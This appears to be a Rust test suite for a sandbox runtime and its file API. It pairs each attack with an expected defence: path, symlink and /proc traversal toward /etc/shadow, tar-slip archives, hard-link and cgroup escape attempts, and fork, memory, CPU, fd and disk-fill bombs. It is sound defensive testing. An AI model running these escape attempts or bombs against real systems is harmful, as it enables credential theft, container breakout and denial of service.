for path in ("/sys/kernel/uevent_helper", "/sys/kernel/profiling", "/sys/power/state",
             "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/evil"):
    try:
        write(path, "x")
        results.append("ok")
    except OSError as e:
        results.append(err(e.errno))
report("sysfs", results)
report("erofs_seen", "EROFS" in results)
agents = []
for top, dirs, files in os.walk("/sys/fs/cgroup"):
    agents += [os.path.join(top, f) for f in files if f in ("release_agent", "notify_on_release")]
report("release_agents", agents)
os.makedirs("/tmp/cg", exist_ok=True)
report("mount_cgroup_v1", sc(165, b"cgroup", b"/tmp/cg", b"cgroup", 0, b"rdma"))
"#,
    );
    assert!(!r.get("sysfs").contains("'ok'"), "{}", r.text);
    assert_eq!(r.get("erofs_seen"), "True", "{}", r.text);
    assert_eq!(r.get("release_agents"), "[]");
    r.refused("mount_cgroup_v1", "EPERM");
    assert_eq!(
        std::fs::read_to_string("/sys/kernel/uevent_helper").unwrap_or_default(),
        helper_before
    );
}

// ---------------------------------------------------------------------------------------------
// The file API

/// A directory on the host with one file, both of which the file API must never touch.
fn host_victim(what: &str) -> (tempfile::TempDir, Canary) {
    let dir = tempfile::Builder::new()
        .prefix(&nonce(what))
        .tempdir_in("/tmp")
        .expect("victim dir");
    let canary = Canary::new(dir.path().join("keep"), false);
    (dir, canary)
}

/// Asserts the victim dir holds only its canary, unchanged.
fn assert_victim_untouched(dir: &tempfile::TempDir, canary: &Canary) {
    canary.assert_untouched();
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .expect("victim dir")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["keep"], "the host dir was written");
}

/// Attack: `../../` in every file API path (read the host's `/etc/shadow` and a host canary,
/// write, stat, mkdir, move onto and remove host paths). Defence: the agent resolves every
/// path inside the sandbox's root: `..` stops at its `/`, so reads find the sandbox's own
/// files (404 when there is none) and writes land inside the sandbox; the host is untouched.
#[test]
fn file_api_dotdot_traversal() {
    let s = served();
    let (dir, canary) = host_victim("dotdot");
    let up = "../../../../../../..";
    let host_dir = dir.path().display().to_string();
    expect_error(s.get_file(&format!("{up}/etc/shadow")), 404, "not_found");
    expect_error(
        s.get_file(&format!("{up}{}", canary.path.display())),
        404,
        "not_found",
    );
    let res = s.api.put(
        &s.files(&format!(
            "?path={}&parents=true",
            enc(&format!("{up}{host_dir}/keep"))
        )),
        b"pwned".to_vec(),
    );
    expect_status(res, 204);
    // It landed inside the sandbox, at the same path.
    let inside = s.get_file(&format!("{host_dir}/keep"));
    assert_eq!(inside.status(), 200);
    assert_eq!(inside.bytes().expect("body").as_ref(), b"pwned");
    let stat = s.api.get(&s.files(&format!(
        "/stat?path={}",
        enc(&format!("{up}{host_dir}/keep"))
    )));
    assert_eq!(stat.status(), 200);
    assert_eq!(stat.json::<serde_json::Value>().expect("stat")["size"], 5);
    let res = s.post_json(
        "mkdir",
        json!({"path": format!("{up}{host_dir}/made"), "parents": true}),
    );
    expect_status(res, 204);
    let res = s.post_json(
        "move",
        json!({"from": format!("{up}{host_dir}/keep"), "to": format!("{up}{host_dir}/moved")}),
    );
    expect_status(res, 204);
    let res = s.post_json(
        "remove",
        json!({"path": format!("{up}{host_dir}"), "recursive": true}),
    );
    expect_status(res, 204);
    assert_victim_untouched(&dir, &canary);
}

/// Attack: plant symlinks inside the sandbox (to `/etc/shadow`, to `/`, to a host directory,
/// relative ones climbing out) and use them through every file API operation. Defence: links
/// resolve inside the sandbox's root: reads find no host file (404); writes, mkdir and remove
/// act on the sandbox's own tree (where the host dir's path dangles or is the sandbox's); the
/// host dir and canary are untouched.
#[test]
fn file_api_symlink_traversal() {
    let s = served();
    let (dir, canary) = host_victim("symlink");
    let host_dir = dir.path().display().to_string();
    s.sh(&format!(
        "mkdir -p /work && ln -s /etc/shadow /work/shadow && ln -s / /work/root && \
         ln -s {host_dir} /work/hostdir && ln -s ../../../../../../..{host_dir} /work/rel"
    ));
    expect_error(s.get_file("/work/shadow"), 404, "not_found");
    expect_error(s.get_file("/work/root/etc/shadow"), 404, "not_found");
    expect_error(
        s.get_file(&format!("/work/root{}", canary.path.display())),
        404,
        "not_found",
    );
    expect_error(s.get_file("/work/hostdir/keep"), 404, "not_found");
    expect_error(s.get_file("/work/rel/keep"), 404, "not_found");
    let put = |path: &str| {
        s.api.put(
            &s.files(&format!("?path={}&parents=true", enc(path))),
            b"pwned".to_vec(),
        )
    };
    // Links to the host dir dangle inside the sandbox: making their parents is a conflict.
    expect_status(put("/work/hostdir/keep"), 409);
    expect_status(put("/work/rel/keep"), 409);
    // Through the link to `/`: the file lands in the sandbox's own tree, at the host dir's path.
    expect_status(put(&format!("/work/root{host_dir}/keep")), 204);
    let inside = expect_status(s.get_file(&format!("{host_dir}/keep")), 200);
    assert_eq!(inside.bytes().expect("body").as_ref(), b"pwned");
    // So do mkdir, move and remove through the dangling link.
    let res = s.post_json(
        "mkdir",
        json!({"path": "/work/hostdir/made", "parents": true}),
    );
    expect_status(res, 204);
    let made = s
        .api
        .get(&s.files(&format!("/stat?path={}", enc(&format!("{host_dir}/made")))));
    expect_status(made, 200);
    let res = s.post_json(
        "move",
        json!({"from": "/work/shadow", "to": "/work/hostdir/moved"}),
    );
    expect_status(res, 400);
    let res = s.post_json(
        "remove",
        json!({"path": "/work/hostdir/keep", "recursive": true}),
    );
    expect_status(res, 204);
    expect_error(s.get_file(&format!("{host_dir}/keep")), 404, "not_found");
    // Removing the sandbox's own /tmp mount through the link to `/`: the kernel refuses it
    // (EBUSY), a clear 403, not a failure of the agent.
    let res = s.post_json(
        "remove",
        json!({"path": "/work/root/tmp", "recursive": true}),
    );
    expect_error(res, 403, "forbidden");
    assert_victim_untouched(&dir, &canary);
}

/// Attack: go through `/proc` magic links with the file API: the agent's root, exe and cwd,
/// `/proc/self/root`, and another process's root, for reads, listings and writes. Defence:
/// the agent refuses paths through magic links (403 `forbidden`).
#[test]
fn file_api_proc_magic_links() {
    let s = served();
    let pid = s
        .api
        .background(&s.id, json!({"cmd": ["sleep", "600"], "background": true}));
    for path in [
        "/proc/1/root/etc/hostname".to_string(),
        "/proc/1/exe".to_string(),
        "/proc/1/cwd/etc/hostname".to_string(),
        "/proc/self/root/etc/hostname".to_string(),
        format!("/proc/{pid}/root/etc/hostname"),
    ] {
        expect_error(s.get_file(&path), 403, "forbidden");
    }
    expect_error(
        s.api
            .get(&s.files(&format!("/list?path={}", enc("/proc/1/root")))),
        403,
        "forbidden",
    );
    expect_error(
        s.api.put(
            &s.files(&format!("?path={}", enc("/proc/1/root/tmp/x"))),
            b"x".to_vec(),
        ),
        403,
        "forbidden",
    );
}

/// Attack: hard-link host files (the image's `/usr` and `/etc/hostname`, bound from the
/// host) to keep them, or to change them through the link. Defence: links across mounts fail
/// (EXDEV); a link inside the image's overlay links the sandbox's copy, so the host file's
/// link count and content are unchanged and no host path appears.
#[test]
fn hardlinks_to_host_files() {
    let env = Env::new();
    let target = "/usr/bin/env";
    let before = std::fs::metadata(target).expect("host file");
    let hash = sha256_of(target);
    let name = nonce("hardlink");
    let r = attack(
        &env,
        &format!(
            r#"
attempt("to_tmp", lambda: os.link("{target}", "/tmp/env-link"))
attempt("hostname", lambda: os.link("/etc/hostname", "/root/hostname-link"))
attempt("in_usr", lambda: os.link("{target}", "/usr/local/{name}"))
try:
    open("/usr/local/{name}", "ab").write(b"pwned")
    report("write_through", "ok")
except OSError as e:
    report("write_through", err(e.errno))
"#
        ),
    );
    r.refused("to_tmp", "EXDEV");
    r.refused("hostname", "EXDEV");
    assert!(!std::path::Path::new(&format!("/usr/local/{name}")).exists());
    let after = std::fs::metadata(target).expect("host file");
    assert_eq!((after.ino(), after.nlink()), (before.ino(), before.nlink()));
    assert_eq!(
        sha256_of(target),
        hash,
        "the host's {target} changed: {}",
        r.text
    );
}

/// A tar of raw entries: (name, kind, link target, data), names and targets written into the
/// header as given (so `..` and absolute names survive).
fn hostile_tar(entries: &[(&str, tar::EntryType, &str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, kind, link, data) in entries {
        let mut header = tar::Header::new_gnu();
        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        header.as_old_mut().linkname[..link.len()].copy_from_slice(link.as_bytes());
        header.set_entry_type(*kind);
        header.set_mode(0o644);
        header.set_size(data.len() as u64);
        header.set_cksum();
        builder.append(&header, *data).expect("append");
    }
    builder.into_inner().expect("tar")
}

/// Attack (tar-slip): upload archives whose entries escape the destination: `../` climbing
/// to a host dir, an absolute host path, a symlink to the host dir then a file through it, a
/// hard link to `/etc/shadow`. Defence: each archive is refused whole (400 naming the
/// entry); the host dir is untouched.
#[test]
fn tar_slip_through_upload() {
    let s = served();
    let (dir, canary) = host_victim("tarslip");
    let host_dir = dir.path().display().to_string();
    let climb = format!("../../../../../../..{host_dir}/slip");
    let absolute = format!("{host_dir}/abs");
    let cases: Vec<(Vec<u8>, String)> = vec![
        (
            hostile_tar(&[
                ("ok", tar::EntryType::Regular, "", b"x"),
                (&climb, tar::EntryType::Regular, "", b"pwned"),
            ]),
            "..".to_string(),
        ),
        (
            hostile_tar(&[(&absolute, tar::EntryType::Regular, "", b"pwned")]),
            "absolute".to_string(),
        ),
        (
            hostile_tar(&[
                ("link", tar::EntryType::Symlink, &host_dir, b""),
                ("link/evil", tar::EntryType::Regular, "", b"pwned"),
            ]),
            "symbolic link".to_string(),
        ),
        (
            hostile_tar(&[("hard", tar::EntryType::Link, "/etc/shadow", b"")]),
            "link".to_string(),
        ),
    ];
    for (body, needle) in cases {
        let message = expect_error(
            s.api.put(&s.files("/tar?path=/work/up"), body),
            400,
            "invalid_argument",
        );
        assert!(message.contains(&needle), "{needle}: {message}");
    }
    assert_victim_untouched(&dir, &canary);
}

/// Attack: plant a symlink to `/` inside the sandbox, then upload a tar through it (as the
/// destination, and as a directory the archive's entries pass through). Defence: the agent
/// resolves it inside the sandbox: the files land in the sandbox's own tree (at the host
/// dir's path, readable there); the host is untouched.
#[test]
fn tar_upload_through_a_planted_symlink() {
    let s = served();
    let (dir, canary) = host_victim("tarlink");
    let host_dir = dir.path().display().to_string();
    s.sh("mkdir -p /work/up && ln -s / /work/up/root && ln -s / /work/rootlink");
    let inner = format!("root{host_dir}/evil");
    let body = hostile_tar(&[(&inner, tar::EntryType::Regular, "", b"pwned")]);
    expect_status(s.api.put(&s.files("/tar?path=/work/up"), body), 200);
    let inside = expect_status(s.get_file(&format!("{host_dir}/evil")), 200);
    assert_eq!(inside.bytes().expect("body").as_ref(), b"pwned");
    let body = hostile_tar(&[("keep", tar::EntryType::Regular, "", b"pwned")]);
    let res = s.api.put(
        &s.files(&format!(
            "/tar?path={}",
            enc(&format!("/work/rootlink{host_dir}"))
        )),
        body,
    );
    expect_status(res, 200);
    let inside = expect_status(s.get_file(&format!("{host_dir}/keep")), 200);
    assert_eq!(inside.bytes().expect("body").as_ref(), b"pwned");
    assert_victim_untouched(&dir, &canary);
}

// ---------------------------------------------------------------------------------------------
// Resource bombs: each runs while another sandbox must still be served within a bound

/// Attack: escape the sandbox's own limits from inside: make its processes immune to the
/// host's OOM killer (`oom_score_adj` -1000, so host processes die first), raise the hard
/// open-files limit, take real-time or top nice priority, and find its cgroup's files to
/// rewrite. Defence: none of these is allowed without host capabilities (EACCES / EPERM); no
/// cgroup hierarchy is mounted inside; the agent's score and the limits stay.
#[test]
fn escaping_the_resource_limits_from_inside() {
    let env = Env::new();
    let r = attack(
        &env,
        r#"
before = open("/proc/self/oom_score_adj").read().strip()
attempt("oom_immune", lambda: write("/proc/self/oom_score_adj", "-1000"))
attempt("agent_oom", lambda: write("/proc/1/oom_score_adj", "-1000"))
report("oom_after", open("/proc/self/oom_score_adj").read().strip() == before)
limit = (ctypes.c_ulong * 2)()
libc.prlimit(0, 7, None, limit)
raised = (ctypes.c_ulong * 2)(limit[1] * 2, limit[1] * 2)
report("raise_nofile", sc(302, 0, 7, raised, None))
report("nice_top", sc(141, 0, 0, -20))
param = ctypes.c_int(50)
report("realtime", sc(144, 0, 1, ctypes.byref(param)))
report("cgroup_mounted", os.path.exists("/sys/fs/cgroup/memory") or os.path.exists("/sys/fs/cgroup/cgroup.procs"))
"#,
    );
    r.refused("oom_immune", "EACCES");
    r.refused("agent_oom", "EACCES");
    assert_eq!(r.get("oom_after"), "True");
    r.refused("raise_nofile", "EPERM");
    r.refused("nice_top", "EACCES");
    r.refused("realtime", "EPERM");
    assert_eq!(r.get("cgroup_mounted"), "False");
}

/// How long another sandbox may take to be created, run `echo` and be removed while a bomb
/// runs (2 shared cores, other tests running).
const SERVED_BOUND: Duration = Duration::from_secs(10);

/// Attack: a fork bomb (beside a busy loop) in a sandbox limited to 64 pids. Defence: the
/// pids cgroup caps it (forks are refused inside, the count never passes 64); meanwhile
/// another sandbox is created and served within the bound and the host keeps spawning
/// quickly; the exec timeout ends the bomb and the sandbox answers again.
/// (Moved here from limits.rs, with the other sandbox served.)
#[test]
fn a_fork_bomb_is_capped_and_the_host_stays_responsive() {
    let env = Env::new();
    let id = env.create(&["--pids", "64"]);
    let mut bomb = env
        .cmd([
            "exec",
            "--timeout",
            "10s",
            &id,
            "--",
            "sh",
            "-c",
            "(f(){ f | f & }; f) & while :; do :; done",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pids_dir = cgroup_dir("pids", &id);
    let mut peak = 0u64;
    let mut worst_host = Duration::ZERO;
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(3) {
        let current: u64 = std::fs::read_to_string(pids_dir.join("pids.current"))
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        peak = peak.max(current);
        let t = Instant::now();
        let ok = std::process::Command::new("/bin/true").status().unwrap();
        assert!(ok.success());
        worst_host = worst_host.max(t.elapsed());
        std::thread::sleep(Duration::from_millis(50));
    }
    let events = std::fs::read_to_string(pids_dir.join("pids.events")).unwrap();
    let refused: u64 = events
        .split_whitespace()
        .nth(1)
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(peak <= 64, "pids went above the limit: {peak}");
    // Forks refused by the pids controller prove the bomb reached the limit.
    assert!(refused > 0, "no fork was refused: {events} (peak {peak})");
    assert!(
        worst_host < Duration::from_secs(1),
        "host spawn took {worst_host:?}"
    );
    // The bomb still runs (until the 10 s timeout): another sandbox is served meanwhile.
    assert!(bomb.try_wait().unwrap().is_none(), "the bomb ended early");
    assert_served_within(&env, SERVED_BOUND);
    // The main shell forks once, before the bomb starts (in that subshell), then runs a builtin
    // loop needing no fork until the exec timeout: a fork failing in the main shell would end
    // it with status 2 instead.
    let status = bomb.wait().unwrap();
    assert_eq!(
        status.code(),
        Some(124),
        "the exec timeout must end the bomb"
    );
    // The sandbox still answers after the bomb is killed.
    let out = env.output(["exec", &id, "--", "echo", "alive"]);
    assert_ok(&out);
    assert_eq!(stdout(&out), "alive\n");
    assert_host_healthy();
}

/// Attack: a memory bomb (touching ever more memory) in a sandbox limited to 64 MiB.
/// Defence: the memory cgroup OOM-kills it (exit 137, reported); another sandbox is served
/// within the bound meanwhile, and the host stays healthy.
#[test]
fn a_memory_bomb_while_another_sandbox_is_served() {
    let env = Env::new();
    let mut bomb = env
        .cmd([
            "run", "--memory", "64M", "--", "python3", "-c",
            "import time\nhog = []\nwhile True:\n    hog.append(b'x' * (8 << 20))\n    time.sleep(0.01)",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("bomb");
    std::thread::sleep(Duration::from_millis(200));
    assert_served_within(&env, SERVED_BOUND);
    let out = {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            if let Some(status) = bomb.try_wait().expect("wait") {
                break status;
            }
            assert!(Instant::now() < deadline, "the memory bomb was not stopped");
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    assert_eq!(out.code(), Some(137));
    let mut err = String::new();
    std::io::Read::read_to_string(&mut bomb.stderr.take().expect("stderr"), &mut err)
        .expect("stderr");
    assert!(err.contains("out of memory"), "{err}");
    assert_host_healthy();
}

/// Attack: spin every CPU (four busy processes) in a sandbox limited to half a CPU.
/// Defence: the cpu cgroup's quota holds it near 0.5 CPU; another sandbox is served within
/// the bound meanwhile.
#[test]
fn a_cpu_spin_while_another_sandbox_is_served() {
    let env = Env::new();
    let id = env.create(&["--cpus", "0.5"]);
    let mut spin = env
        .cmd([
            "exec",
            "--timeout",
            "20s",
            &id,
            "--",
            "python3",
            "-c",
            "import os\nfor _ in range(3):\n    os.fork()\nwhile True: pass",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spin");
    // CPU time of the sandbox's processes (utime + stime, in clock ticks of 10 ms).
    let usage = || -> Duration {
        let ticks: u64 = cgroup_procs(&id)
            .into_iter()
            .filter_map(|pid| std::fs::read_to_string(format!("/proc/{pid}/stat")).ok())
            .filter_map(|stat| {
                let fields: Vec<u64> = stat
                    .rsplit_once(") ")?
                    .1
                    .split_whitespace()
                    .skip(11)
                    .take(2)
                    .filter_map(|n| n.parse().ok())
                    .collect();
                Some(fields.iter().sum::<u64>())
            })
            .sum();
        Duration::from_millis(ticks * 10)
    };
    std::thread::sleep(Duration::from_millis(500));
    let (u0, t0) = (usage(), Instant::now());
    assert_served_within(&env, SERVED_BOUND);
    std::thread::sleep(Duration::from_secs(2));
    let (used, wall) = (usage() - u0, t0.elapsed());
    assert!(
        used.as_secs_f64() < wall.as_secs_f64() * 0.5 * 1.3 + 0.1,
        "the sandbox used {used:?} of CPU in {wall:?} with a 0.5 CPU quota"
    );
    assert!(
        used > Duration::from_millis(200),
        "the spin did not run: {used:?}"
    );
    assert_host_healthy();
    stop_child(&mut spin);
}

fn stop_child(child: &mut Child) {
    let _ = child.kill();
    let _ = child.wait();
}

/// Attack: exhaust file descriptors: eight processes raise their soft limit to the hard one
/// and open `/dev/null` until refused, then hold them. Defence: the per-process
/// `RLIMIT_NOFILE` stops each (EMFILE, never the system-wide ENFILE); another sandbox is served
/// meanwhile and the host can still open files.
#[test]
fn fd_exhaustion_while_another_sandbox_is_served() {
    use std::io::BufRead;
    let env = Env::new();
    let id = env.create(&["--memory", "512M"]);
    let script = format!(
        "{PRELUDE}\n{}",
        r#"
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
report("hard", hard)
kids = []
for i in range(8):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        fds, why = [], "none"
        try:
            while True:
                fds.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as e:
            why = err(e.errno)
        os.write(w, f"{len(fds)} {why}".encode())
        time.sleep(60)
        os._exit(0)
    os.close(w)
    kids.append((pid, r))
for i, (pid, r) in enumerate(kids):
    report(f"kid{i}", os.read(r, 100).decode())
report("ready", "yes")
time.sleep(60)
"#
    );
    let mut bomb = env
        .cmd(["exec", &id, "--", "python3", "-c", &script])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("bomb");
    let mut text = String::new();
    let mut lines = std::io::BufReader::new(bomb.stdout.take().expect("stdout"));
    while !text.contains("ready=yes") {
        let mut line = String::new();
        if lines.read_line(&mut line).expect("read") == 0 {
            panic!("the attack ended early:\n{text}");
        }
        text.push_str(&line);
    }
    // Every descriptor is held now.
    assert_served_within(&env, SERVED_BOUND);
    assert_host_healthy();
    let r = Report::parse(text);
    let hard: u64 = r.get("hard").parse().expect("hard limit");
    assert!(hard <= 1 << 20, "RLIMIT_NOFILE hard limit {hard}");
    let kids = r.all("kid");
    assert_eq!(kids.len(), 8, "{}", r.text);
    for (kid, result) in kids {
        let (count, why) = result.split_once(' ').expect("count and errno");
        assert_eq!(why, "EMFILE", "{kid}: {}", r.text);
        assert!(count.parse::<u64>().expect("count") < hard, "{kid}");
    }
    assert_ok(&env.output(["rm", &id]));
    stop_child(&mut bomb);
    assert_host_healthy();
}

/// Attack: fill the disk: a sandbox with a 64 MiB quota writes, deletes and rewrites a large
/// file in a loop. Defence: the quota stops every round (EDQUOT, or ENOSPC) at about 64 MiB;
/// another sandbox is served within the bound meanwhile, and the host's filesystem keeps its
/// free space.
#[test]
fn a_disk_fill_while_another_sandbox_is_served() {
    let env = Env::new();
    let id = env.create(&["--disk", "64M"]);
    let before = rustix::fs::statvfs(env.data_dir()).expect("statvfs");
    let mut fill = env
        .cmd([
            "exec",
            "--timeout",
            "20s",
            &id,
            "--",
            "sh",
            "-c",
            "while :; do head -c 300M /dev/zero > /root/fill 2>/dev/null; \
             echo \"round $(stat -c %s /root/fill)\"; rm -f /root/fill; done",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("fill");
    let mut lines =
        std::io::BufRead::lines(std::io::BufReader::new(fill.stdout.take().expect("stdout")));
    let first = lines.next().expect("a round").expect("line");
    let written: u64 = first
        .strip_prefix("round ")
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("{first}"));
    assert!(
        written <= 64 << 20,
        "{written} bytes written under a 64 MiB quota"
    );
    assert!(written >= 16 << 20, "the fill barely ran: {written}");
    // Still filling: another sandbox is served.
    assert_served_within(&env, SERVED_BOUND);
    let second = lines.next().expect("another round").expect("line");
    assert!(second.starts_with("round "), "{second}");
    let after = rustix::fs::statvfs(env.data_dir()).expect("statvfs");
    let lost = before.f_bavail.saturating_sub(after.f_bavail) * before.f_frsize;
    assert!(lost < 200 << 20, "the host's filesystem lost {lost} bytes");
    assert_host_healthy();
    assert_ok(&env.output(["rm", &id]));
    stop_child(&mut fill);
}
